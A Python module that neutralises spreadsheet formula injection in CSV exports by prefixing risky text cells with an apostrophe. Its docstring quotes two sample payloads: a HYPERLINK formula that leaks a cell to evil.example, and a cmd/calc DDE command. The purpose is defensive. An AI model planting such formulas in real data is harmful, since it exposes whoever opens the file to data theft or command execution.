"""CSV files people open in a spreadsheet: text that a spreadsheet would run as a formula is written inert.

A client may call themself `=HYPERLINK("https://evil.example/?"&A1, "Click")` (or `+cmd|' /C calc'!A0`);
when an owner opens the exported CSV in Excel, LibreOffice or Google Sheets, that cell would be evaluated.
Every text cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return therefore gets a leading
apostrophe (OWASP's advice), unless it is a plain number (`-5`, `+3.5`, `-12%`), which a spreadsheet reads as
a number anyway. Numbers, dates and other non-text cells are written as they are.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence

_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)*%?")


def csv_cell(value: object) -> object:
    """The value as it may be written to a CSV cell: text that a spreadsheet would evaluate (see the module)
    prefixed with `'`; anything else unchanged."""
    if isinstance(value, str) and value.startswith(_FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def csv_text(headers: Sequence[object], rows: Iterable[Sequence[object]]) -> str:
    """A CSV document (str, `\\r\\n` line ends) of a header row and the rows, every cell through `csv_cell`."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow([csv_cell(value) for value in headers])
    writer.writerows([csv_cell(value) for value in row] for row in rows)
    return buffer.getvalue()
